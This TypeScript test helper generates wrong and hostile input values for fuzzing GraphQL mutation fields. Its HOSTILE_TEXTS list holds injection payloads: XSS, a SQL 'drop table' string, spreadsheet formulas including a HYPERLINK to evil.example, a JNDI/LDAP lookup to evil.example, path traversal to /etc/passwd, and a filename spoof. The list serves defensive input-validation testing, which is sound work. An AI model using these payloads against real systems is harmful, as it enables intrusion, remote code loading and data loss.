import {
  getNullableType,
  isEnumType,
  isInputObjectType,
  isListType,
  type GraphQLInputField,
  type GraphQLInputType,
  type GraphQLSchema,
} from 'graphql';

/** Texts that are dangerous when interpreted; a field stores them unchanged or refuses them. */
export const HOSTILE_TEXTS = [
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '=HYPERLINK("http://evil.example","click")',
  '@SUM(1+1)*cmd|calc',
  "'; drop table booking; --",
  '${jndi:ldap://evil.example}{{7*7}}',
  '../../../etc/passwd',
  'abcd\u202egnp.exe',
  '\ud83d\ude00 zwj \u200d and \u0301 combining',
];

/** Texts that cannot be stored. */
export const IMPOSSIBLE_TEXTS = ['abcd\u0000efgh', 'abcd\ud800efgh', 'x'.repeat(600_000)];

const WRONG_FOR_ALL = [{ nested: true }, [[[['deep']]]]];
const LARGE_LIST = Array.from({ length: 20_000 }, (_, index) => index);

const WRONG: Record<string, unknown[]> = {
  String: [42, true, ['text']],
  Int: [2 ** 31, -(2 ** 31), -1, 0, 1.5, '1', 'x', true, 1e300],
  Float: [1e300, -1, '1', 'x', true],
  Boolean: ['true', 1, 'x'],
  LocalDate: [
    '2026-02-30',
    '0000-00-00',
    '99999-01-01',
    'yesterday',
    20260101,
    '2026-01-01T00:00:00Z',
    '',
  ],
};

/**
 * Values that are wrong for a type, or dangerous in it; null is for the fields that may be cleared.
 */
export function hostileFor(type: GraphQLInputType): unknown[] {
  const bare = getNullableType(type);
  if (isListType(bare)) {
    return [
      'text',
      7,
      [null],
      LARGE_LIST,
      { length: 1 },
      ...hostileFor(bare.ofType).map((value) => [value]),
    ];
  }
  if (isInputObjectType(bare)) return ['text', 7, []];
  if (isEnumType(bare)) return ['NONSENSE', 1, true, ...WRONG_FOR_ALL];

  return [...(WRONG[String(bare)] ?? []), ...WRONG_FOR_ALL, null];
}

export interface WrittenField {
  /** The path in the variables: `['input', 'cpm']`. */
  place: string[];
  name: string;
  type: GraphQLInputType;
}

const fieldsOf = (
  place: string[],
  field: Pick<GraphQLInputField, 'name' | 'type'>,
): WrittenField[] => {
  const bare = getNullableType(field.type);
  const own = [...place, field.name];
  if (!isInputObjectType(bare)) return [{ place: own, name: field.name, type: field.type }];
  return Object.values(bare.getFields()).flatMap((inner) => fieldsOf(own, inner));
};

/** Every field that a mutation takes, including those of its input. */
export const writtenFields = (schema: GraphQLSchema, mutation: string): WrittenField[] =>
  (schema.getMutationType()?.getFields()[mutation]?.args ?? []).flatMap((argument) =>
    fieldsOf([], argument),
  );

const isRecord = (value: unknown): value is Record<string, unknown> =>
  typeof value === 'object' && value !== null;

/** A copy of the variables with one field changed. */
export function withField(
  variables: Record<string, unknown>,
  [first = '', ...rest]: string[],
  value: unknown,
) {
  const inner = variables[first];
  const next: unknown =
    rest.length === 0 ? value : withField(isRecord(inner) ? inner : {}, rest, value);
  return { ...variables, [first]: next };
}
